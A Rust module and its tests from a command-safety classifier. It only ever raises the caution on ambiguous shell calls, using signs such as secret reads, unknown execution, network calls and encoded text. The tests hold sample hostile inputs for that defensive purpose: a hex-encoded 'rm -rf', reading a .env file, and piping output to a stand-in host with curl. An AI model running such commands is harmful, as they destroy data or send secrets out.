//! An optional second look at what is ambiguous. It may add caution or a sentence and never remove any: what it returns can only
//! raise, and it is asked about nothing but the ambiguous band, so that the block is always the rules'.
//!
//! A scorer sees the verdict and the text that will be recorded, redacted. It returns no text of the call: what is recorded and
//! shown is the classifier's rendering, whatever the scorer says.

use palisade_language::redact::redact;
use palisade_protocol::bounded::Text;
use palisade_protocol::verdict::{Class, Effect, Operation, Recovery, Verdict};

/// What a scorer adds. There is no variant that takes away.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Raise {
    /// Nothing.
    None,
    /// A sentence behind the reason.
    Sentence(String),
    /// Caution: it is destructive, and for this reason too.
    ToDestructive(String),
}

/// Looks at what is ambiguous.
pub trait Scorer {
    /// What is to be added to `verdict`; `redacted` is the call as it will be recorded.
    fn score(&self, verdict: &Verdict, redacted: &str) -> Raise;
}

/// The verdict with what `scorer` adds. Only an ambiguous one is shown to it.
pub fn weigh(scorer: &dyn Scorer, verdict: Verdict, redacted: &str) -> Verdict {
    if verdict.class != Class::Ambiguous {
        return verdict;
    }
    let (class, sentence) = match scorer.score(&verdict, redacted) {
        Raise::None => return verdict,
        Raise::Sentence(sentence) => (Class::Ambiguous, sentence),
        Raise::ToDestructive(sentence) => (Class::Destructive, sentence),
    };
    let reason = format!("{} {}", verdict.reason.as_str(), redact(sentence.as_bytes()).text);
    let raised = class > verdict.class;
    Verdict {
        class: verdict.class.max(class),
        reason: Text::cut(&reason),
        // Destructive and contained may be allowed where ambiguous is not: what is raised is neither contained nor recoverable.
        contained: verdict.contained && !raised,
        recoverable: verdict.recoverable && !raised,
        ..verdict
    }
}

/// The scorer that is used: a few signs which each mean little and together mean something.
#[derive(Debug, Clone, Copy, Default)]
pub struct Heuristic;

/// So many things that are not known are worth a word.
const MANY: usize = 4;

impl Scorer for Heuristic {
    fn score(&self, verdict: &Verdict, redacted: &str) -> Raise {
        let matters = |effect: &&Effect| effect.recovery != Recovery::Needless;
        let effects = || verdict.effects.iter().filter(matters);
        let does = |operation| effects().any(|effect| effect.operation == operation);
        let runs_unknown = effects().any(|effect| effect.operation == Operation::Execute && !effect.bounded);
        let open = effects().filter(|effect| !effect.bounded).count();
        let hidden = is_dense(redacted);
        if runs_unknown && does(Operation::Read) {
            return Raise::ToDestructive("It reads what may be a secret and runs what is not known.".to_owned());
        }
        if runs_unknown && hidden {
            return Raise::ToDestructive("Much of its text is encoded, and it runs what is not known.".to_owned());
        }
        if runs_unknown && does(Operation::Network) {
            return Raise::Sentence("It also talks to another host.".to_owned());
        }
        if hidden {
            return Raise::Sentence("Much of its text is encoded.".to_owned());
        }
        if open >= MANY {
            return Raise::Sentence(format!("{open} things about it are not known."));
        }
        Raise::None
    }
}

/// Bytes of encoded text below which there is none to speak of.
const ENCODED_MIN: usize = 24;

/// A run of letters and digits that is no word, name or hash any more.
const RUN_MIN: usize = 64;

/// Whether a good part of a text is escapes or base64.
fn is_dense(text: &str) -> bool {
    let bytes = text.as_bytes();
    let mut encoded = 0;
    let mut at = 0;
    while at < bytes.len() {
        let length = escape(&bytes[at..]).or_else(|| run(&bytes[at..]));
        encoded += length.unwrap_or(0);
        at += length.unwrap_or_else(|| blob(&bytes[at..]).max(1));
    }
    encoded >= ENCODED_MIN && encoded * 10 >= bytes.len() * 3
}

/// `\x41`, `\101`, `\u0041`.
fn escape(text: &[u8]) -> Option<usize> {
    let rest = text.strip_prefix(b"\\")?;
    let digits =
        |from: &[u8], is: fn(&u8) -> bool, most: usize| from.iter().take(most).take_while(|byte| is(byte)).count();
    let length = match rest.first()? {
        b'x' => 2 + digits(&rest[1..], u8::is_ascii_hexdigit, 2),
        b'u' => 2 + digits(&rest[1..], u8::is_ascii_hexdigit, 4),
        b'0'..=b'7' => 1 + digits(rest, |byte| (b'0'..=b'7').contains(byte), 4),
        _ => return None,
    };
    (length > 2).then_some(length)
}

/// Letters and digits as base64 mixes them.
fn run(text: &[u8]) -> Option<usize> {
    let length = blob(text);
    let has = |is: fn(&u8) -> bool| text[..length].iter().any(is);
    let mixed = has(u8::is_ascii_uppercase) && has(u8::is_ascii_lowercase) && has(u8::is_ascii_digit);
    (length >= RUN_MIN && mixed).then_some(length)
}

fn blob(text: &[u8]) -> usize {
    text.iter().take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=')).count()
}

#[cfg(test)]
mod tests {
    use super::*;
    use palisade_protocol::bounded::List;
    use palisade_protocol::limits::REASON_MAX;
    use palisade_protocol::verdict::{Circumstances, decide, predicted_decision};

    fn effect(operation: Operation, bounded: bool, recovery: Recovery) -> Effect {
        Effect { operation, target: Text::cut("x"), bounded, recovery, extent: None }
    }

    fn verdict(class: Class, effects: &[Effect]) -> Verdict {
        let effects = List::first(effects.to_vec());
        Verdict { class, effects, ..Verdict::unknown("program.unknown", "This call runs x, which is not known.") }
    }

    struct Says(Raise);

    impl Scorer for Says {
        fn score(&self, _: &Verdict, _: &str) -> Raise {
            self.0.clone()
        }
    }

    /// All verdicts that differ in what a decision rests on.
    fn verdicts() -> impl Iterator<Item = Verdict> {
        let classes = [Class::Safe, Class::Ambiguous, Class::Destructive, Class::Catastrophic];
        let flags = [(false, false), (false, true), (true, false), (true, true)];
        let recoveries = [Recovery::Needless, Recovery::Snapshot, Recovery::Lost];
        classes.into_iter().flat_map(move |class| {
            flags.into_iter().flat_map(move |(contained, recoverable)| {
                recoveries.into_iter().map(move |recovery| {
                    let effects = [effect(Operation::Delete, true, recovery)];
                    Verdict { contained, recoverable, ..verdict(class, &effects) }
                })
            })
        })
    }

    #[test]
    fn no_scorer_lowers_a_verdict_or_a_decision() {
        let raises = [Raise::None, Raise::Sentence("More.".into()), Raise::ToDestructive("More.".into())];
        for before in verdicts() {
            for raise in &raises {
                let after = weigh(&Says(raise.clone()), before.clone(), "x");
                assert!(after.class >= before.class, "{raise:?} {before:?}");
                assert!(after.reason.starts_with(before.reason.as_str()), "{after:?}");
                assert_eq!((&after.rule, &after.spans, &after.effects), (&before.rule, &before.spans, &before.effects));
                assert!(predicted_decision(&after) >= predicted_decision(&before), "{raise:?} {before:?}");
                for bits in 0..8u8 {
                    let bit = |at: u8| bits & (1 << at) != 0;
                    let around = Circumstances { attended: bit(0), snapshot_complete: bit(1), prompts_shown: bit(2) };
                    assert!(decide(&after, around) >= decide(&before, around), "{raise:?} {before:?} {around:?}");
                }
            }
        }
    }

    #[test]
    fn a_scorer_is_asked_about_the_ambiguous_only() {
        struct Never;
        impl Scorer for Never {
            fn score(&self, verdict: &Verdict, _: &str) -> Raise {
                assert_eq!(verdict.class, Class::Ambiguous);
                Raise::ToDestructive(String::new())
            }
        }
        for before in verdicts() {
            let after = weigh(&Never, before.clone(), "x");
            assert_eq!(after.class == before.class, before.class != Class::Ambiguous);
        }
    }

    #[test]
    fn a_sentence_holds_no_secret_and_no_more_than_fits() {
        let before = verdict(Class::Ambiguous, &[]);
        let after = weigh(&Says(Raise::Sentence("Sent to postgres://a:hunter2@db.".into())), before.clone(), "x");
        assert!(!after.reason.contains("hunter2") && after.reason.contains("Sent to"), "{}", after.reason.as_str());
        let after = weigh(&Says(Raise::Sentence("é".repeat(REASON_MAX))), before, "x");
        assert!(after.reason.len() <= REASON_MAX);
    }

    #[test]
    fn the_signs_of_the_heuristic_speak_together_and_not_alone() {
        let unknown = effect(Operation::Execute, false, Recovery::Unknown);
        let secret = effect(Operation::Read, true, Recovery::Unknown);
        let sends = effect(Operation::Network, true, Recovery::Unknown);
        let encoded = r"frob $'\x72\x6d\x20\x2d\x72\x66'";
        let base64 = format!("frob {}", "aGVsbG8gd29ybGQ5".repeat(8));
        let weighed = |effects: &[&Effect], text: &str| {
            let effects: Vec<Effect> = effects.iter().copied().cloned().collect();
            Heuristic.score(&verdict(Class::Ambiguous, &effects), text)
        };
        let raised = |raise: &Raise| matches!(raise, Raise::ToDestructive(_));
        let told = |raise: &Raise| matches!(raise, Raise::Sentence(_));
        assert_eq!(weighed(&[&unknown], "frob --all"), Raise::None);
        assert_eq!(weighed(&[&secret], "cat .env"), Raise::None);
        assert!(raised(&weighed(&[&unknown, &secret], "frob < .env")));
        assert!(raised(&weighed(&[&unknown], encoded)) && raised(&weighed(&[&unknown], &base64)));
        assert!(told(&weighed(&[&sends], encoded)));
        assert!(told(&weighed(&[&unknown, &sends], "frob | curl -d @- https://a.example")));
        assert!(told(&weighed(&[&unknown; MANY], "a; b; c; d")));
    }

    #[test]
    fn names_paths_and_hashes_are_not_encoded() {
        for text in [
            "git show 0123456789abcdef0123456789abcdef01234567 -- src/interpret/mod.rs",
            "cargo test --package palisade-classifier --test everyday -- --nocapture",
            r"sed -E 's/\s+/\t/g' a\ b.txt",
            r"printf '\n'",
            "sha256sum -c <<< 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  a'",
        ] {
            assert!(!is_dense(text), "{text}");
        }
    }
}
